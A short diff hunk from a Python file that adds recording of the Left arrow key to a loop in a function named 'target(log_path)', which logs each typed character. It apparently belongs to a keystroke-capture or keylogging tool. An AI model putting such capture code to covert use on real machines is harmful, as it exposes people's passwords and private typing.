@@ -82,6 +82,8 @@ def target(log_path):
                 char = keysym_char(keysym)
                 if char is not None:
                     record({"typed": char})
+                elif keysym == XK.XK_Left:
+                    record({"key": "Left"})
 
 
 def secret(text):
